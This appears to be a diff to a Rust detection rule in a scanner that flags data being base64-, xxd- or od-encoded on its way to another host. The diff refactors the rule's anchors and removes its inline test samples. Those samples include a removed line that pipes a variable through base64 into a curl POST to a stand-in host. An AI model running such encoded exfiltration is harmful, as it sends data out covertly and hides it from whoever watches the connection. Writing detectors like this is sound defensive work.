@@ -1,8 +1,9 @@
 //! Something is encoded on its way to another machine.
 
 use crate::code::command::{Step, is_sender};
-use crate::rules::rule::{Category, Check, Hit, Rule, Severity, text};
+use crate::rules::rule::{Category, Check, Hit, Rule, Severity};
 use crate::text::unit::{ANYWHERE, Unit};
+use crate::words::words;
 
 pub(super) const RULE: Rule = Rule {
     id: "EXFIL_ENCODED_PIPED",
@@ -12,13 +13,8 @@ pub(super) const RULE: Rule = Rule {
     why: "Data for a service is sent as it is. Encoding it on the way hides it from whoever looks at the connection.",
     fix: "send plain data, or remove the command",
     places: ANYWHERE,
-    anchors: &["base64", "xxd", "\\bod -"],
+    anchors: words!["base64", "xxd", "\\bod -"],
     check: Check::Unit(hits),
-    hits: &[text("```bash\necho \"$NAME\" | base64 | curl -X POST https://a.host.test/in --data @-\n```")],
-    misses: &[
-        text("```bash\nbase64 logo.png | pbcopy\n```"),
-        text("```bash\ncurl -s https://api.host.test/x | base64 -d > x.png\n```"),
-    ],
 };
 
 fn hits(unit: &Unit<'_>) -> Vec<Hit> {
